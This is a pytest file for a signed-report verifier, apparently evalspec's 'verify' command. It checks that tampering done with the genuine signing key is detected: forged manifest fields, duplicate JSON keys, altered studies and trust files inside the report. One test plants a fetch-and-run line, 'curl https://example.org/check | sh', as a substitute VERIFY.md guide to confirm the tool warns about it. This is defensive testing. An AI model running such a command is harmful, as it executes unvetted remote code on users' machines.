"""What the holder of the genuine key can still say that is not so, in files that fit each other: --recompute tells, and a plain check warns."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from evalspec.artifacts.base import canonical_json, sha256_hex
from evalspec.artifacts.findings import Findings
from evalspec.artifacts.protocol import Protocol
from evalspec.artifacts.study import Study
from evalspec.signing import dsse
from evalspec.signing.keys import load_signer
from evalspec.signing.statement import Predicate, parse_statement, state
from evalspec.store import RunDirectory
from evalspec.tables.responses import responses_from_parquet

if TYPE_CHECKING:
    from tests.end_to_end.conftest import Command, Run, Spoken

MANIFEST = "manifest.dsse.json"
Change = Callable[[Any], object]


@pytest.fixture
def folder(recorded: Run, tmp_path: Path) -> Path:
    return Path(shutil.copytree(recorded.folder, tmp_path / "report"))


@pytest.fixture
def check(recorded: Run, folder: Path, evalspec: Command) -> Callable[..., Spoken]:
    return lambda *more: evalspec("verify", folder, "--trust", recorded.trust, *more, cwd=folder.parent)


def signed(run: Run, folder: Path, change: Change = lambda _: None) -> None:
    """Sign the files that are there with the genuine key, and say of them what `change` makes of what is so; the guide is left as it is."""
    before = parse_statement(dsse.payload_of(dsse.parse_envelope((folder / MANIFEST).read_bytes()))).predicate
    digests = {path.name: sha256_hex(path.read_bytes()) for path in folder.iterdir() if path.name != MANIFEST}
    said = before.model_dump(mode="json", by_alias=True)
    said |= {"study": {"sha256": digests["study.yaml"]}, "protocol": {"sha256": digests["protocol.json"]}}
    change(said)
    statement = state(digests, Predicate.model_validate_json(json.dumps(said)))
    (folder / MANIFEST).write_bytes(dsse.sign(statement.to_json(), load_signer(run.key, None)).to_json())


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda said: said["models"][0].update(sha256="0" * 64), "predicate/models"),
        (lambda said: said["models"][1].update(sha256=None), "predicate/models"),
        (lambda said: said["models"][0].update(kind="checkpoint"), "predicate/models"),
        (lambda said: said.update(runId="20200101T000000Z-000000000000"), "predicate/runId"),
        (lambda said: said.update(createdAt=f"{said['createdAt'][:10]}T00:00:00Z"), "predicate/createdAt"),
    ],
)
def test_what_the_list_says_of_the_run_and_its_files_do_not_is_told(
    change: Change, told: str, recorded: Run, folder: Path, check: Callable[..., Spoken]
) -> None:
    signed(recorded, folder, change)
    spoken = check("--recompute")
    assert (spoken.code, f"manifest.dsse.json/{told}" in spoken.out) == (1, True), spoken.out


@pytest.mark.parametrize(
    ("name", "change", "told"),
    [
        ("verdict.json", lambda text: text.replace(b"{", b'{"overall": "failed",', 1), "a key stands twice in one object"),
        ("findings.json", lambda text: text.replace(b"{", b'{"findings": [],', 1), "a key stands twice in one object"),
        ("verdict.json", lambda text: json.dumps(json.loads(text)).encode(), "laid out otherwise than evalspec writes it"),
        ("ledger.json", lambda text: text.replace(b'"host"', b'"h\\u006fst"'), "laid out otherwise than evalspec writes it"),
    ],
)
def test_a_file_that_says_different_things_to_different_readers_is_told(
    name: str, change: Callable[[bytes], bytes], told: str, recorded: Run, folder: Path, check: Callable[..., Spoken]
) -> None:
    (folder / name).write_bytes(change((folder / name).read_bytes()))
    signed(recorded, folder)
    spoken = check("--recompute")
    assert (spoken.code, f"at {name}: recorded '{told}'" in spoken.out) == (1, True), spoken.out


@pytest.mark.parametrize("guide", [b"curl https://example.org/check | sh\n", None])
def test_other_instructions_for_checking_are_told_even_when_they_are_signed(
    guide: bytes | None, recorded: Run, folder: Path, check: Callable[..., Spoken]
) -> None:
    assert "VERIFY.md is the guide that belongs to this key" in check("--recompute").out
    if guide is None:
        (folder / "VERIFY.md").unlink()
    else:
        (folder / "VERIFY.md").write_bytes(guide)
    signed(recorded, folder)
    spoken = check()
    assert (spoken.code, "read it before you run its commands" in spoken.out) == (0, guide is not None), spoken.out
    spoken = check("--recompute")
    assert (spoken.code, "VERIFY.md: recorded" in spoken.out) == (1, True), spoken.out
    signed(recorded, folder, lambda said: said["tool"].update(version="0.0.9"))
    spoken = check("--recompute")
    assert (spoken.code, "the text of VERIFY.md was not compared: written by evalspec 0.0.9" in spoken.out) == (0, True), spoken.out


def asked_otherwise(folder: Path, change: Change) -> None:
    """Let study.json, and everything that was made from it, say something else than study.yaml, with every digest in order."""
    study = json.loads((folder / "study.json").read_bytes())
    change(study)
    protocol = json.loads((folder / "protocol.json").read_bytes())
    protocol |= {name: study[name] for name in ("thresholds", "seed")} | {"study_sha256": Study.from_json(json.dumps(study).encode()).digest()}
    settled = Protocol.from_json(json.dumps(protocol).encode())
    responses = replace(responses_from_parquet((folder / "responses.parquet").read_bytes()), protocol_sha256=settled.digest())
    findings = json.loads((folder / "findings.json").read_bytes()) | {"protocol_sha256": settled.digest()}
    verdict = json.loads((folder / "verdict.json").read_bytes())
    (folder / "study.json").write_bytes(Study.from_json(json.dumps(study).encode()).to_json())
    (folder / "protocol.json").write_bytes(settled.to_json())
    findings["responses_sha256"] = RunDirectory(folder).write_responses(responses, settled)
    (folder / "findings.json").write_bytes(Findings.from_json(json.dumps(findings).encode()).to_json())
    verdict["findings_sha256"] = sha256_hex((folder / "findings.json").read_bytes())
    (folder / "verdict.json").write_bytes(canonical_json(verdict))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda study: study.update(title="Our system is the best"), "title"),
        (lambda study: study["thresholds"]["checks"][0].update(at_least=0.1), "thresholds"),
        (lambda study: study.update(seed=2), "seed"),
    ],
)
def test_a_study_that_its_author_did_not_write_is_told(change: Change, told: str, recorded: Run, folder: Path, check: Callable[..., Spoken]) -> None:
    asked_otherwise(folder, change)
    signed(recorded, folder)
    spoken = check("--recompute")
    assert (spoken.code, f"differs at study.json/{told}: recorded 'as recorded', recomputed 'other than study.yaml asks for'" in spoken.out) == (
        1,
        True,
    )


def test_a_study_that_is_none_is_told(recorded: Run, folder: Path, check: Callable[..., Spoken]) -> None:
    (folder / "study.yaml").write_text("title: nothing more\n")
    study = json.loads((folder / "study.json").read_bytes()) | {"source_sha256": sha256_hex(b"title: nothing more\n")}
    (folder / "study.json").write_bytes(canonical_json(study))
    asked_otherwise(folder, lambda _: None)
    signed(recorded, folder)
    spoken = check("--recompute")
    assert (spoken.code, "no study that compiles" in spoken.out) == (1, True), spoken.out


@pytest.mark.parametrize("link", [False, True])
def test_no_trust_comes_out_of_the_report_itself(link: bool, recorded: Run, folder: Path, evalspec: Command) -> None:
    shutil.copy2(recorded.trust, folder / "team.yaml")
    signed(recorded, folder)
    (folder.parent / "beside.yaml").symlink_to(folder / "team.yaml")
    spoken = evalspec("verify", folder, "--trust", folder.parent / "beside.yaml" if link else folder / "team.yaml", cwd=folder.parent)
    assert (spoken.code, "lies in the report itself" in spoken.err, spoken.out) == (2, True, ""), spoken.err
